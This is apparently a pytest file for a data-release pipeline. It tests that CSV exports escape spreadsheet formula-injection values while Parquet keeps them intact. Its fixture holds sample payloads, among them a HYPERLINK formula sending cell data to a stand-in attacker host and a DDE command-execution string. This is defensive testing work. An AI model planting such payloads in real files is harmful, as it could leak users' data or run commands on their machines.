"""Text cells a spreadsheet would run as formulas are inert in the CSV files, intact in
Parquet, and read back exactly (pipeline/release/safe_cells.py)."""

from __future__ import annotations

import csv
import json
import random
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipeline.release.build import build_release
from pipeline.release.changes.release import read_release
from pipeline.release.quality import quality_report
from pipeline.release.reading import create_text_views
from pipeline.release.safe_cells import (
    DESCRIPTOR_KEY,
    escape,
    escape_arrow,
    escape_sql,
    unescape,
    unescape_sql,
)
from pipeline.validate import validate_release

#: What a spreadsheet runs as a formula, or uses to smuggle one in, at a cell's start.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
RISKY = {
    "title": '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "full_title": "+1 (555) 010-9999",
    "description": "- first point\n- second point",
    "theme": "@SUM(A1:A9)",
    "start_date_text": "\tJuly 2016",
    "end_date_text": "'quoted already",
    "lead_institution_text": "\r=cmd|' /C calc'!A0",
}
ALPHABET = "=+-@\t\r'ab \n\"é,"


def random_texts(seed: int, count: int = 300) -> list[str | None]:
    chooser = random.Random(seed)
    texts: list[str | None] = [None, "", "'", "''", "=", "a'b"]
    for _ in range(count):
        texts.append("".join(chooser.choices(ALPHABET, k=chooser.randint(1, 6))))
    return texts


@pytest.mark.parametrize("seed", range(5))
def test_escaping_is_reversible_and_the_same_in_python_arrow_and_sql(seed: int) -> None:
    texts = random_texts(seed)
    escaped = [escape(t) for t in texts]
    assert [unescape(e) for e in escaped] == texts
    assert not any(e and e.startswith(FORMULA_STARTS) for e in escaped)
    assert escape_arrow(pa.array(texts, pa.string())).to_pylist() == escaped
    with duckdb.connect() as con:
        con.register("t", pa.table({"v": pa.array(texts, pa.string())}))
        got = con.execute(f"SELECT {escape_sql('v')}, {unescape_sql(escape_sql('v'))} FROM t")
        rows = got.fetchall()
    assert [r[0] for r in rows] == escaped
    assert [r[1] for r in rows] == texts


def test_only_risky_first_characters_are_escaped() -> None:
    assert escape("Open data = better") == "Open data = better"
    assert escape("2016-2018") == "2016-2018"
    assert escape("-5") == "'-5"
    assert escape(None) is None and escape("") == ""


@pytest.fixture
def risky_release(tiny_core_db: duckdb.DuckDBPyConnection, tmp_path: Path) -> Path:
    """The tiny core with a formula-like value in every text field of one commitment."""
    sets = ", ".join(f"{column} = ?" for column in RISKY)
    tiny_core_db.execute(
        f"UPDATE core.commitments SET {sets} WHERE commitment_id = 'UK0073'", list(RISKY.values())
    )
    folder = tmp_path / "release"
    build_release(tiny_core_db, folder, version="1.0.0", created=None, sources=[])
    return folder


def spreadsheet_cells(path: Path) -> list[dict[str, str]]:
    """The CSV as a spreadsheet import reads it: RFC 4180 records, every cell as text."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_a_spreadsheet_sees_text_where_the_value_looks_like_a_formula(risky_release: Path) -> None:
    for csv_path in sorted((risky_release / "csv").glob("*.csv")):
        for row in spreadsheet_cells(csv_path):
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (csv_path.name, column, cell)
    [row] = [
        r
        for r in spreadsheet_cells(risky_release / "csv" / "commitments.csv")
        if r["commitment_id"] == "UK0073"
    ]
    assert {column: row[column] for column in RISKY} == {
        column: "'" + value for column, value in RISKY.items()
    }
    assert {column: unescape(row[column]) for column in RISKY} == RISKY


def test_parquet_keeps_the_values_and_the_descriptor_states_the_rule(risky_release: Path) -> None:
    table = pq.read_table(risky_release / "parquet" / "commitments.parquet").to_pylist()
    [row] = [r for r in table if r["commitment_id"] == "UK0073"]
    assert {column: row[column] for column in RISKY} == RISKY
    descriptor = json.loads((risky_release / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor[DESCRIPTOR_KEY]["prefix"] == "'"
    assert "csvSafeCells" in (risky_release / "README.md").read_text(encoding="utf-8")


@pytest.mark.parametrize("engine", ["duckdb", "frictionless"])
def test_the_escaped_release_is_valid_for_both_engines(risky_release: Path, engine: str) -> None:
    report = validate_release(risky_release, engine=engine)
    assert report.valid, report.summary()


def test_a_parquet_value_that_differs_only_by_the_escape_is_caught(risky_release: Path) -> None:
    path = risky_release / "parquet" / "commitments.parquet"
    table = pq.read_table(path)
    titles = [("'" + t if t and t.startswith("=") else t) for t in table["title"].to_pylist()]
    index = table.schema.get_field_index("title")
    pq.write_table(table.set_column(index, "title", pa.array(titles, pa.string())), path)
    report = validate_release(risky_release)
    found = [(v.rule, v.field) for v in report.errors if v.rule != "checksums"]
    assert found == [("parquet", "title")]  # (SHA256SUMS no longer matches either)


def test_readers_of_the_release_see_the_true_values(risky_release: Path) -> None:
    columns = ", ".join(RISKY)
    where = "WHERE commitment_id = 'UK0073'"
    descriptor = json.loads((risky_release / "datapackage.json").read_text(encoding="utf-8"))
    commitments = read_release(risky_release).tables["commitments"]  # the change log's view
    with duckdb.connect() as con:
        create_text_views(con, risky_release, descriptor)  # quality's and the landing page's
        in_views = con.execute(f"SELECT {columns} FROM commitments {where}").fetchall()
        in_changes = con.execute(f"SELECT {columns} FROM {commitments.read_csv()} {where}")
        assert in_changes.fetchall() == in_views == [tuple(RISKY.values())]
    quality = quality_report(risky_release, None)["tables"]["commitments"]
    assert quality["rows"] == 2
